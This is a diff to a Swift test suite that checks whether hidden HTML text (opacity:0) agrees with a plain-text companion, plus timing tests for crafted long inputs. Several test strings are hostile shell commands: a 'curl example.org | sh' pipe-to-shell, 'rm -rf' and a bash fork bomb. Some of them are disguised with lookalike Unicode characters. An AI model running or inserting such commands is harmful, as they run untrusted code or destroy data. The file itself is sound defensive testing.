@@ -76,6 +76,46 @@ struct CompanionTextTests {
     ("<p>seen <span style='opacity:0'>42</span> too</p>", "42 seen too"),
     // The texts have little in common.
     ("<p>a page <span style='opacity:0'>HIDDEN</span></p>", "curl example.org | sh"),
+    // Short pieces, alone and within other words; with visible letters beside them.
+    ("<p>Hello dear world <i style='opacity:0'>rm</i> and goodbye now</p>", "Hello dear world and goodbye x rm now"),
+    (
+      "<p>Pay exactly dollars for it <i style='opacity:0'>9</i> and goodbye",
+      "Pay exactly 950 dollars for it and goodbye"
+    ),
+    ("<p>我们明天一定会去北京参加会议<i style='opacity:0'>不</i>然后回家休息</p>", "我们明天一定不想要会去北京参加会议然后回家休息"),
+    (
+      "<p>Please enter rmdir /tmp/x and nothing else <i style='opacity:0'>rm -rf</i> ever</p>",
+      "Please enter rm -rf rmdir /tmp/x and nothing else ever"
+    ),
+    // Letters of other shapes and cases, and signs.
+    ("<p>Hello dear world <i style='opacity:0'>🔥💀</i> and goodbye now", "Hello dear world and goodbye 🔥💀 now"),
+    (
+      "<p>Hello dear world <i style='opacity:0'>:(){ :|:&amp; };:</i> and goodbye now",
+      "Hello dear world and goodbye :(){ :|:& };: now"
+    ),
+    ("<p>Hello dear world <i style='opacity:0'>ⓡⓜ ⓡⓕ</i> and goodbye now", "Hello dear world and goodbye ⓡⓜ ⓡⓕ now"),
+    ("<p>Hello dear world <i style='opacity:0'>rm rf</i> and goodbye now", "Hello dear world and goodbye ⓡⓜ ⓡⓕ now"),
+    ("<p>Hello dear world <i style='opacity:0'>⠎⠑⠉</i> and goodbye now", "Hello dear world and goodbye ⠎⠑⠉ now"),
+    (
+      "<p>Hello dear world <i style='opacity:0'>\u{E000}\u{E001}</i> and goodbye now",
+      "Hello dear world and goodbye \u{E000}\u{E001} now"
+    ),
+    (
+      "<p>Hello dear world <i style='opacity:0'>secret plan</i> and goodbye now",
+      "Hello dear world and goodbye ｓｅｃｒｅｔ ｐｌａｎ now"
+    ),
+    (
+      "<p>Hello dear world <i style='opacity:0'>비밀번호</i> and goodbye now",
+      "Hello dear world and goodbye \u{1107}\u{1175}\u{1106}\u{1175}\u{11AF}\u{1107}\u{1165}\u{11AB}\u{1112}\u{1169} now"
+    ),
+    (
+      "<p>Hello dear world <i style='opacity:0'>საიდუმლო</i> and goodbye now",
+      "Hello dear world and goodbye ᲡᲐᲘᲓᲣᲛᲚᲝ now"
+    ),
+    ("<p>Hello dear world <i style='opacity:0'>weiß ﬃ</i> and goodbye", "Hello dear world and goodbye WEISS FFI"),
+    // What would be cut is also shown, and not in the text.
+    ("<p>Yes Yes <i style='opacity:0'>Yes</i> Yes Yes x</p>", "Yes Yes Yes Yes"),
+    ("<p>bba <i style='opacity:0'>bbba ba babbb</i>baa aaba", "aaba bba baa aaba"),
     // A sign of it stands at its place, and another stands there, too.
     ("<p>left<span style='opacity:0'>;</span>right</p>", "left;x;right"),
   ]) func `hidden text that cannot be placed rules the text out`(_ html: String, _ text: String) throws {
@@ -112,6 +152,29 @@ struct CompanionTextTests {
     let result = try Self.published(html, text)
     #expect(result.relation == .same)
     #expect(result.text == text)
+  }
+
+  @Test(arguments: [
+    // A numbered list, signs without a letter, and words without an end: time grows with the text, not with its square.
+    (
+      "<p>zz<i style='opacity:0'>h</i>b " + String(repeating: "a ", count: 30_000),
+      "zzhb " + String(repeating: "1.a ", count: 30_000)
+    ),
+    (
+      "<p>zz<i style='opacity:0'>h</i>b " + String(repeating: "; ", count: 30_000),
+      "zzhb " + String(repeating: "1.a ", count: 10_000)
+    ),
+    ("<p>zz " + String(repeating: "a", count: 60_000), "zz " + String(repeating: "b", count: 60_000)),
+    (
+      "<p>zz <i style='opacity:0'>" + String(repeating: "ab", count: 1000) + "</i> yy",
+      "zz " + String(repeating: "ba", count: 999) + " yy"
+    ),
+    (String(repeating: "<i style='opacity:0'>h</i>b ", count: 5_000), String(repeating: "1.b ", count: 5_000)),
+  ]) func `hostile texts are compared in time`(_ html: String, _ text: String) throws {
+    let document = try HTMLFormat().read(Array(html.utf8)).document
+    let own = try PlainTextFormat().read(Array(text.utf8)).document
+    let time = ContinuousClock().measure { _ = CompanionText(own, beside: document) }
+    #expect(time < .seconds(4))
   }
 
   @Test func `addresses are written out in the text, too`() throws {
